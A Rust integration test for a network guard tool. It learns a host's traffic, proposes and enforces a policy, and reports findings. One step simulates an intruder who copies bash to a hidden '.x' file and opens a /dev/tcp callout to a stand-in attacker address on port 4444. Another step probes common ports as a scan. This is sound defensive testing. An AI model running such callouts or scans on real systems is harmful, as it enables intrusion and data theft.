//! A Monday: somebody who knows nothing of a host logs in, watches it, takes the policy that is proposed, gets an edit wrong
//! twice, enforces it, and reviews what came of it. All of it typed at a terminal over OpenSSH; the host's servers and
//! clients are the real ones.

use std::{
    net::{IpAddr, Ipv4Addr},
    path::Path,
    process::Command,
    thread,
    time::{Duration, Instant},
};

use guard_tests::{
    echo::{Echo, tcp_reaches},
    flows::{NOTHING, PASSES},
    guard::{Guard, binary},
    new_world,
    process::{Process, run},
    servers::{self, Sshd, chronyd, cron, curl, dnsmasq, nginx, postgres},
    skip::skip,
    terminal::Terminal,
    unpacked,
    witness::Witness,
    world::World,
};
use serde_json::Value;

const TEST: &str = "netns_monday";
const INTRUDER: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9));
/// What nobody at this host has business with.
const HOME: u16 = 4444;

/// All that the host does every day, and whom it does it with. Dropped together.
struct Everyday {
    _running: Vec<Process>,
}

impl Everyday {
    /// On the server nginx, PostgreSQL and a caching dnsmasq; at the client a web site, the resolver and the clock.
    fn start(world: &World) -> anyhow::Result<Self> {
        let (server, client, dir) = (&world.server, &world.client, world.dir());
        let named = dir.join("resolv.conf");
        std::fs::write(&named, "nameserver 127.0.0.1\noptions timeout:1\n")?;
        // The world's mount namespace is its own.
        let mut bind = server.command("mount");
        anyhow::ensure!(run(bind.arg("--bind").arg(&named).arg("/etc/resolv.conf"), PASSES)?.good(), "resolv.conf");
        let (near, far) = (dir.join("near"), dir.join("far"));
        std::fs::create_dir(&near)?;
        std::fs::create_dir(&far)?;
        // A new cluster takes longer than all the rest.
        thread::scope(|scope| {
            let database = scope.spawn(|| postgres(server, dir, 5432));
            let mut running = vec![
                nginx(server, dir, 80)?,
                nginx(client, dir, 8080)?,
                dnsmasq(client, &far, &["--address=/example/192.0.2.20"])?,
                dnsmasq(server, &near, &["--server=192.0.2.20"])?,
                chronyd(client, dir, "clock", "local stratum 8\nallow 192.0.2.0/24")?,
            ];
            running.push(database.join().map_err(|_| anyhow::anyhow!("postgres panicked"))??);
            Ok(Self { _running: running })
        })
    }
}

/// What others ask of the host, as they do each day.
fn visits(world: &World) {
    curl(&world.client, world.server.v4.into(), 80, PASSES).unwrap();
    let mut psql = world.client.command("psql");
    psql.args(["-h", &world.server.v4.to_string(), "-U", "postgres", "-w", "-tAc", "select 40 + 2"]);
    let answer = run(&mut psql, PASSES * 2).unwrap();
    assert_eq!(answer.stdout.trim(), "42", "{}", answer.text());
}

/// A line with guard in it, for this world's instance.
fn typed(guard: &Guard, line: &str) -> String {
    let at = format!("--instance {} --state-dir {}", guard.instance(), guard.state_dir().display());
    let mut words: Vec<String> = line.split(' ').map(str::to_owned).collect();
    let [verb, rest @ ..] = words.as_mut_slice() else { return String::new() };
    let in_reach = !matches!(verb.as_str(), "check" | "test");
    let rest = rest.join(" ");
    format!("{} {verb} {} {rest}", binary().unwrap().display(), if in_reach { &at } else { "" })
}

fn json(said: &str) -> Value {
    let line = said.lines().find(|line| line.starts_with('{')).unwrap_or_else(|| panic!("no JSON: {said}"));
    serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {said}"))
}

#[test]
fn from_nothing_to_a_reviewed_policy() {
    let Some(world) = new_world(TEST) else { return };
    if !Path::new("/usr/lib/postgresql").exists() {
        return skip(TEST, "postgresql is not installed");
    }
    for (package, path) in [servers::CHRONY, servers::CRON] {
        if let Err(error) = unpacked::program(package, path) {
            return skip(TEST, &format!("{error:#}"));
        }
    }
    let began = Instant::now();
    let _everyday = Everyday::start(&world).unwrap();
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let listens = Echo::tcp(&world.intruder, INTRUDER, HOME).unwrap();
    let guard = Guard::prepare(&world, "").unwrap();
    let mut terminal = Terminal::open(&sshd, &world);
    let file = |name: &str| world.dir().join(name).display().to_string();
    println!("{:?}: the servers run", began.elapsed());

    // Monday. Nobody knows what this host does: watch it.
    let observe = typed(&guard, &format!("observe --cgroup {}", world.cgroup().display()));
    terminal.types(&format!("{observe} > {} 2>&1 &", file("observed")));
    let deadline = Instant::now() + PASSES * 12;
    while !std::fs::read_to_string(file("observed")).is_ok_and(|said| said.contains("ready")) {
        assert!(Instant::now() < deadline, "{:?}", std::fs::read_to_string(file("observed")));
        thread::sleep(Duration::from_millis(50));
    }
    println!("{:?}: guard observes", began.elapsed());
    visits(&world);
    // What asks only now and then asks when it starts.
    let _chrony = chronyd(&world.server, world.dir(), "chrony", "server 192.0.2.20 iburst").unwrap();
    let _cron =
        cron(&world.server, world.dir(), &format!("curl -s -o {} http://www.example:8080/", file("fetched"))).unwrap();
    let (code, said) = terminal.run("curl -sS http://www.example:8080/");
    assert_eq!((code, said.trim()), (0, "guard-test"));
    for port in [21, 23, 25, 110, 143, 445, 1433, 3306, 3389, 5900, 6379, 8080] {
        tcp_reaches(&world.intruder, (world.server.v4, port).into(), NOTHING).unwrap_err();
    }
    for (what, port) in [("chrony", 123), ("dnsmasq", 53), ("curl", 8080)] {
        guard
            .wait_records(|record| record["dest_port"] == port && record["guard"]["direction"] == "outbound")
            .unwrap_or_else(|error| panic!("{what}: {error:#}"));
    }
    let deadline = Instant::now() + PASSES * 2;
    while !Path::new(&file("fetched")).exists() {
        assert!(Instant::now() < deadline, "cron's job did not run");
        thread::sleep(Duration::from_millis(50));
    }
    println!("{:?}: it was watched", began.elapsed());

    // A policy from what was seen: also of what is still open, as this very session is.
    let policy = file("monday.yaml");
    let explains =
        |flow: &str| Command::new(binary().unwrap()).args(["explain", &policy, flow]).output().unwrap().status.code();
    let wanted = [
        "in tcp 198.51.100.7 -> 22",
        "in tcp 192.0.2.20 -> 80",
        "in tcp 192.0.2.20 -> 5432",
        "out udp 192.0.2.20:53",
        "out udp 192.0.2.20:123",
        "out tcp 192.0.2.20:8080",
    ];
    let deadline = Instant::now() + PASSES * 4;
    loop {
        let (code, said) = terminal.run(&typed(&guard, &format!("suggest -o {policy}")));
        let missing: Vec<&str> = wanted.into_iter().filter(|flow| code != 0 || explains(flow) != Some(0)).collect();
        if missing.is_empty() {
            break;
        }
        let written = std::fs::read_to_string(&policy).unwrap_or_default();
        assert!(Instant::now() < deadline, "{missing:?} are not in it: {said}\n{written}");
        // The store is written behind the packets; nothing is written over.
        let _ = std::fs::remove_file(&policy);
        thread::sleep(Duration::from_millis(500));
    }
    let suggested = std::fs::read_to_string(&policy).unwrap();
    println!("{:?}: suggested\n{suggested}", began.elapsed());
    for denied in ["in tcp 203.0.113.9 -> 445", "in tcp 203.0.113.9 -> 22", "out tcp 203.0.113.9:4444"] {
        assert_eq!(explains(denied), Some(1), "{denied}: {suggested}");
    }
    assert!(
        suggested.contains("#   12 flows: the asked port was closed\n") && suggested.contains("mode: audit"),
        "{suggested}"
    );

    // Edited: first so that it is no policy, then so that it locks its writer out, then right.
    let edit = |text: &str| servers::private_file(Path::new(&policy), text).unwrap();
    edit(&suggested.replacen("services: http\n", "services: tcp/8999-8000\n", 1));
    let (code, said) = terminal.run(&typed(&guard, &format!("check {policy}")));
    println!("{said}");
    assert!(code == 1 && said.contains("monday.yaml:") && said.contains("tcp/8000-8999"), "{code}: {said}");
    let enforcing = suggested.lines().map(|line| if line.starts_with("mode: audit") { "mode: enforce" } else { line });
    let enforcing = enforcing.collect::<Vec<_>>().join("\n") + "\n";
    let wrong = enforcing.replace("198.51.100.7", "198.51.100.77");
    edit(&wrong[..wrong.find("\ntests:").unwrap_or(wrong.len())]);
    let (code, said) = terminal.run(&typed(&guard, &format!("reload {policy}")));
    println!("{said}");
    assert!(code == 1 && said.contains("198.51.100.7 -> 22"), "refused, and says why: {code}: {said}");
    assert_eq!(guard.status().unwrap()["policy"], "observing");
    edit(&enforcing);
    for verb in ["check", "test"] {
        let (code, said) = terminal.run(&typed(&guard, &format!("{verb} {policy}")));
        assert_eq!(code, 0, "{verb}: {said}");
    }
    // What it would have done with what was recorded: the scan would have been stopped, and the day's work passes.
    let (code, said) = terminal.run(&typed(&guard, &format!("replay {policy} --flows 7d")));
    println!("{said}");
    assert!(code == 0 && said.contains("not_listed") && said.contains("store.db"), "{code}: {said}");
    let passes = |flow: &str| said.lines().any(|line| line.contains("allow") && line.contains(flow));
    for flow in ["in tcp 192.0.2.20 -> 5432", "out udp 192.0.2.20:123", "out tcp 192.0.2.20:8080"] {
        assert!(passes(flow), "{flow}: {said}");
    }
    assert!(said.lines().any(|line| line.contains("deny") && line.contains("in tcp 203.0.113.9 -> 445")), "{said}");
    println!("{:?}: edited", began.elapsed());

    // In force; and to stay, once another login has shown that the way in is open.
    let (code, said) = terminal.run(&typed(&guard, &format!("reload {policy}")));
    println!("{said}");
    assert_eq!(code, 0, "{said}");
    assert!(guard.status().unwrap()["deadline"]["seconds_left"].as_u64().is_some(), "{said}");
    let mut again = Terminal::open(&sshd, &world);
    let (code, said) = again.run(&typed(&guard, "confirm"));
    assert_eq!(code, 0, "{said}");
    let status = guard.status().unwrap();
    assert!(status["deadline"].is_null(), "{status:#}");
    println!("{:?}: enforced", began.elapsed());
    visits(&world);
    let (code, said) = again.run("curl -sS http://www.example:8080/");
    assert_eq!((code, said.trim()), (0, "guard-test"));
    assert!(curl(&world.intruder, world.server.v4.into(), 80, NOTHING).is_err());

    // Somebody is here. What it tries does not leave, and is the first thing in the report.
    let witness = Witness::start(&world.router, World::WIRE).unwrap();
    let tool = file(".x");
    let calls = format!("echo hello > /dev/tcp/{INTRUDER}/{HOME}; called=$?; sleep 2; exit $called");
    let (code, said) = again.run(&format!("cp /bin/bash {tool} && {tool} -c '{calls}'"));
    assert_ne!(code, 0, "{said}");
    guard.wait_records(|record| record["dest_port"] == HOME).unwrap();
    assert_eq!((listens.reached(), witness.count(|packet| packet.destination == INTRUDER)), (0, 0));
    let report = |terminal: &mut Terminal<'_>| json(&terminal.run(&typed(&guard, "report --json")).1);
    let deadline = Instant::now() + PASSES * 2;
    let first = loop {
        let first = report(&mut again)["findings"][0].clone();
        if first["remote"] == "203.0.113.9" && first["direction"] == "outbound" {
            break first;
        }
        assert!(Instant::now() < deadline, "{first:#}");
        thread::sleep(Duration::from_millis(200));
    };
    assert_eq!((&first["kind"], &first["program"]), (&"unusual_process".into(), &tool.as_str().into()), "{first:#}");
    let (code, text) = again.run(&typed(&guard, "report"));
    println!("{:?}: reported\n{text}", began.elapsed());
    assert_eq!(code, 1, "{text}");
    let id = first["id"].as_str().unwrap();
    let (_, shown) = again.run(&typed(&guard, &format!("show {id}")));
    println!("{shown}");
    assert!(shown.contains("UNUSUAL") && shown.contains("not_listed") && shown.contains("paste    nothing"), "{shown}");

    // Decided once, by somebody who can be told later.
    let (code, said) = again.run(&typed(&guard, &format!("ack {id} --note ticket-41 --json")));
    assert_eq!(code, 0, "{said}");
    let mut print = Command::new("ssh-keygen");
    let print = run(print.arg("-lf").arg(sshd.key.with_extension("pub")), PASSES).unwrap().stdout;
    assert_eq!(json(&said)["written"][0]["by"]["key"].as_str(), print.split(' ').nth(1), "{said}");
    let left = report(&mut again);
    let left = left["findings"].as_array().unwrap();
    assert!(!left.is_empty() && left.iter().all(|finding| finding["id"] != id), "{left:#?}");
    // And the rest, which is what the host did before: learned, and now reviewed.
    let ids: Vec<&str> = left.iter().filter_map(|finding| finding["id"].as_str()).collect();
    let (code, said) = again.run(&typed(&guard, &format!("ack {}", ids.join(" "))));
    assert_eq!(code, 0, "{said}");
    let (code, said) = again.run(&typed(&guard, "report"));
    assert!(code == 0 && said.starts_with("nothing to review"), "{code}: {said}");
    println!("{:?}: reviewed", began.elapsed());
}
